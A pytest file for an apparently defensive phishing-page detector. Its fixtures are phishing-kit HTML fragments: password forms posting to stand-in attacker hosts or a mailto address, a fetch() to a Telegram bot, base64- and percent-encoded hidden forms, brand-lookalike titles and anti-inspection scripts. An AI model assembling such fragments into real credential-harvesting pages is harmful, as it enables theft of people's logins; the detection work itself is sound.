"""What is read from a page's source, and what speaks against it."""

from __future__ import annotations

import base64
import gzip
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nospim.capture.bodies import text_of
from nospim.capture.html import within
from nospim.capture.interface import CaptureRefused, Form, Hop, Page, PageFinding, Visit
from nospim.capture.judge import MOST, judge, judge_visits, total
from nospim.capture.likeness import Marks, names
from nospim.capture.limits import MAX_TAGS
from nospim.capture.page import read_page
from nospim.links import Brands

AT = "https://lure-17.example.net/x/index.html"
BRANDS = Brands.of(("Hooli", "examplebank.com"), ("chatter.example",))
MARKS = Marks(brands=BRANDS)


def form_of(source: str, url: str = AT) -> Form:
    page = read_page(source, url)
    assert len(page.forms) == 1
    return page.forms[0]


def kinds(source: str, url: str = AT, marks: Marks = MARKS) -> set[str]:
    return {one.kind for one in judge(read_page(source, url), marks)}


def test_a_forms_target_method_and_fields_are_read() -> None:
    form = form_of(
        "<form method=POST action=go.php><input name=u><input type=PassWord name=p><button>Go</button>"
    )

    assert form == Form(
        action="https://lure-17.example.net/x/go.php",
        method="post",
        asks_password=True,
        fields=(("u", "text"), ("p", "password"), ("", "button")),
        elsewhere=False,
    )


@pytest.mark.parametrize(
    ("source", "action", "elsewhere"),
    [
        ("<form><input type=password>", AT, False),
        ("<base href=https://evil.example.org/a/><form action=b><input type=password>",
         "https://evil.example.org/a/b", True),
        ("<form action=//www.example.net/b><input type=password>", "https://www.example.net/b", False),
        ("<form action=https://o.example.com/b><input type=password>", "https://o.example.com/b", True),
        ("<form action='mailto:thief@evil.example'><input type=password>", "mailto:thief@evil.example", True),
        ("<form action='javascript:send()'><input type=password>", "", False),
        ("<input type=password>", "", False),
        ("<div><p><input autocomplete=current-password></p></div>", "", False),
    ],
)  # fmt: skip
def test_where_a_password_goes_is_told(source: str, action: str, elsewhere: bool) -> None:
    form = form_of(source)

    assert (form.action, form.elsewhere, form.asks_password) == (action, elsewhere, True)


@pytest.mark.parametrize(
    "field",
    ["<input type=text name=passwd>", "<input placeholder='Your password'>", "<input type=tel id=pwd>",
     "<textarea name=password></textarea>", "<input name=Kennwort>", "<input name=pass>"],
)  # fmt: skip
def test_a_password_field_in_disguise_is_one(field: str) -> None:
    assert form_of(f"<form>{field}</form>").asks_password


@pytest.mark.parametrize(
    "field",
    ["<input name=passenger>", "<input name=passport>", "<input type=hidden name=pwd>", "<input name=q>"],
)
def test_other_fields_are_none(field: str) -> None:
    assert not form_of(f"<form>{field}</form>").asks_password


def test_a_field_may_belong_to_a_form_that_it_does_not_stand_in_and_a_button_may_redirect_it() -> None:
    source = (
        "<form id=f action=/a></form><input form=f type=password name=p>"
        "<button form=f formaction=https://evil.example.org/b>Go</button>"
    )
    page = read_page(source, AT)

    assert [(form.action, form.asks_password) for form in page.forms] == [
        ("https://lure-17.example.net/a", True),
        ("https://evil.example.org/b", True),
    ]


HIDDEN = "<form action=/go method=post><input type=password name=p></form>"


@pytest.mark.parametrize(
    "script",
    [
        f"document.write(unescape('{quote(HIDDEN)}'))",
        f'document.write(decodeURIComponent("{quote(HIDDEN, safe="")}"))',
        f"document.write(atob('{base64.b64encode(HIDDEN.encode()).decode()}'))",
        "document.write(unescape('{}'))".format("".join(f"%u{ord(c):04x}" for c in HIDDEN)),
    ],
)
def test_a_form_that_a_script_writes_from_escaped_text_is_read(script: str) -> None:
    source = f"<title>wait</title><script>{script}</script>"

    assert read_page(source, AT).asks_password
    assert "veiled" in kinds(source)


LOGIN = "<form method=post action=/go><input name=u><input type=password name=p></form>"
WEARS = {
    "its title": ("names_brand", f"<title>Hooli - Sign in</title>{LOGIN}"),
    "its title, in Cyrillic letters": ("names_brand", f"<title>Нооli sign in</title>{LOGIN}"),
    "its title, zero-width": ("names_brand", f"<title>Ho\u200bol\u200bi</title>{LOGIN}"),
    "its title, with digits": ("names_brand", f"<title>H00li</title>{LOGIN}"),
    "its title, apart": ("names_brand", f"<title>Example Bank online</title>{LOGIN}"),
    "its text": ("mentions_brand", f"<p>Your Hooli account</p>{LOGIN}"),
    "its parts": ("borrows", f"<img src=https://static.examplebank.com/logo.png>{LOGIN}"),
    "its links": ("leads_to_brand", f"<a href=https://examplebank.com/help>Help</a>{LOGIN}"),
    "its page, saved": (
        "copied_brand",
        f"<!-- saved from url=(0026)https://chatter.example/in -->{LOGIN}",
    ),
}


@pytest.mark.parametrize("what", WEARS)
def test_a_page_that_wears_a_brand_and_asks_for_a_password_says_so(what: str) -> None:
    kind, source = WEARS[what]

    assert kind in kinds(source)
    assert kind not in kinds(source.replace(LOGIN, ""))
    assert kind not in kinds(source, marks=Marks())


def test_the_brands_own_page_is_nobodys_imitation() -> None:
    source = f"<title>Example Bank - sign in</title><img src=/logo.png>{LOGIN}"
    own = judge(read_page(source, "https://login.examplebank.com/in"), MARKS)
    open_ = judge(read_page(source, "http://login.examplebank.com/in"), MARKS)

    assert {one.kind for one in own} == {"asks_password", "own_page"}
    assert total(own) < 0
    assert "own_page" not in {one.kind for one in open_}


def test_a_popular_domain_wears_nobody() -> None:
    source = f"<title>Sign in to your Hooli account</title>{LOGIN}"

    assert kinds(source, "https://login.microsoftonline.com/a") == {"asks_password"}


@pytest.mark.parametrize(
    ("url", "least"),
    [("https://chatter.example.evil.ru/", 5000), ("https://examplebank-login.com/", 5000),
     ("https://examp1ebank.com/", 5000), ("https://lure.example.org/", 0)],
)  # fmt: skip
def test_a_host_that_passes_for_a_brand_counts_by_its_strength(url: str, least: int) -> None:
    found = [one for one in judge(read_page("<p>hello", url), MARKS) if one.kind == "host"]

    assert sum(one.millibits for one in found) == least


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        ("<form action=https://evil.example.org/a><input type=password></form>", "posts_elsewhere"),
        ("<form action=http://lure-17.example.net/a><input type=password></form>", "posts_openly"),
        ("<form action=mailto:a@evil.example><input type=password></form>", "posts_by_mail"),
        ("<input type=password>", "read_by_script"),
        (f"{LOGIN}<script>fetch('https://api.telegram.org/bot1:a/sendMessage')</script>", "to_messenger"),
        (f"{LOGIN}<body oncontextmenu='return false'>", "no_right_click"),
        (f"{LOGIN}<script>if(e.keyCode==123)return false</script>", "no_source_keys"),
        (f"<form action=https://formspree.io/f/x>{LOGIN[6:]}", "to_form_mailer"),
        (f"<!-- saved from url=(0026)https://somebody.example.com/in -->{LOGIN}", "copied"),
        (f"{LOGIN}<form action=https://real.example.com/saml></form>", "split_forms"),
        ("".join(f"<form action={p}.php><input type=password name=pw{p}></form>" for p in
                 ("gmail", "yahoo", "hotmail")), "several_providers"),
    ],
)  # fmt: skip
def test_each_trick_of_a_kit_is_found_beside_a_password_field(source: str, kind: str) -> None:
    assert kind in kinds(source)


def test_a_password_on_a_host_where_anyone_may_publish_counts() -> None:
    assert "rented_host" in kinds(LOGIN, "https://hooli-login.github.io/")
    assert "rented_host" in kinds(LOGIN, "http://93.184.216.34/")
    assert "rented_host" not in kinds(LOGIN, AT)


def test_a_plain_login_page_of_nobody_known_is_worth_a_single_bit() -> None:
    assert total(judge(read_page(f"<title>Club - members</title>{LOGIN}", AT), MARKS)) == 1000


@pytest.mark.parametrize(
    ("text", "named"),
    [("Hooli", True), ("my HOOLI account", True), ("Hoolihan", False), ("school", False), ("Ho oli", True)],
)
def test_a_name_is_found_as_a_word(text: str, named: bool) -> None:
    assert BRANDS is not None
    hooli = next(brand for brand in BRANDS.entries if brand.shown == "Hooli")

    assert names(text, hooli) is named


def test_the_sum_counts_each_kind_once_and_is_bounded() -> None:
    twice = (PageFinding("a", 2000, "x"), PageFinding("a", 3000, "y"), PageFinding("b", -1000, "z"))

    assert total(twice) == 2000
    assert total(tuple(PageFinding(str(n), 4000, "") for n in range(9))) == MOST


def _visit(guise: str, domain: str, page: Page | None, why: str = "") -> Visit:
    from datetime import UTC, datetime

    at = datetime(2026, 11, 24, tzinfo=UTC)
    url = f"https://{domain}/"
    refused = CaptureRefused(url=url, at=at, why=why, detail="", address="") if why else None  # type: ignore[arg-type]
    hop = Hop(url=url, jump="start", at=at, status=0 if why else 200, refused=refused)
    return Visit(guise=guise, hops=(hop,), page=page)


def test_cloaking_bad_certificates_and_ways_inside_are_told() -> None:
    login, plain = read_page(LOGIN, AT), read_page("<p>hello", AT)
    same = (_visit("desktop", "a.example.com", plain), _visit("phone", "m.example.com", plain))
    cloaked = (_visit("desktop", "a.example.com", plain), _visit("phone", "a.example.com", login))
    bad = (_visit("desktop", "a.example.com", None, "tls"),)
    inside = (_visit("desktop", "a.example.com", None, "address"),)

    assert judge_visits(same) == ()
    assert [one.kind for one in judge_visits(cloaked)] == ["cloaks"]
    assert [one.kind for one in judge_visits(bad)] == ["bad_certificate"]
    assert [one.kind for one in judge_visits(inside)] == ["leads_inside"]


@given(st.text(max_size=400))
def test_any_text_is_a_page_that_can_be_judged(text: str) -> None:
    page = read_page(text, AT)

    assert abs(total(judge(page, MARKS))) <= MOST


@given(st.lists(st.sampled_from(
    ["<form>", "</form>", "<input type=password>", "<input form=a>", "<form id=a action=", "'>",
     "<base href=x:>", "<script>", "</script>", "<meta http-equiv=refresh content=", "<title>", "\0",
     "<template>", "<svg>", "<!--"]
), max_size=30))  # fmt: skip
def test_any_heap_of_tags_is_a_page(tags: list[str]) -> None:
    assert read_page("".join(tags), AT) == read_page("".join(tags), AT)


@pytest.mark.parametrize(
    "flood",
    ["<div>" * 400_000, "<form><input type=password>" * 100_000, "<div><input>" * 150_000, "<" * 900_000],
)
def test_a_flood_of_tags_is_cut_and_what_was_not_read_is_said(flood: str) -> None:
    cut, too_long = within(flood)
    page = read_page(LOGIN + flood, AT)

    assert (cut.count("<"), too_long) == (MAX_TAGS, True)
    assert page.asks_password
    assert len(page.forms) <= 100
    assert "too_long" in kinds(LOGIN + flood)


def test_a_logo_counts_beside_a_password_field_on_another_domain_only() -> None:
    def found(source: str, url: str, surely: float = 0.9) -> set[str]:
        return {one.kind for one in judge(read_page(source, url), MARKS, (("examplebank.com", surely),))}

    assert "logo" in found(LOGIN, AT)
    assert "logo" not in found(LOGIN, AT, 0.6)
    assert "logo" not in found("<p>about banks", AT)
    assert "logo" not in found(LOGIN, "https://examplebank.com/in")


# Pages of the public data set are read here and never served, drawn or kept.
CAPTURED = Marks(
    brands=Brands.of(("microsoft.com", "apple.com", "dropbox.com", "bt.com"), ("chatter.example",))
)
LEAST = {"BT-Phish_index": 5000, "dropbox_spacebox_index": 8000, "office_office_index": 5000,
         "one_one_o1_main": 2000}  # fmt: skip


def captured(path: Path) -> Page:
    return read_page(text_of(gzip.decompress(path.read_bytes()), ""), AT)


@pytest.mark.parametrize("name", LEAST)
def test_phishing_pages_from_the_field_are_found(shared_data: Path, name: str) -> None:
    page = captured(shared_data / "data" / "pages" / "phishing" / f"{name}.html.txt.gz")

    assert page.asks_password
    assert total(judge(page, CAPTURED)) >= LEAST[name]


def test_benign_pages_from_the_field_are_left_alone(shared_data: Path) -> None:
    paths = sorted((shared_data / "data" / "pages" / "benign").glob("*.gz"))
    sums = {path.name: total(judge(captured(path), CAPTURED)) for path in paths}

    assert len(sums) == 15
    assert set(sums.values()) == {0}
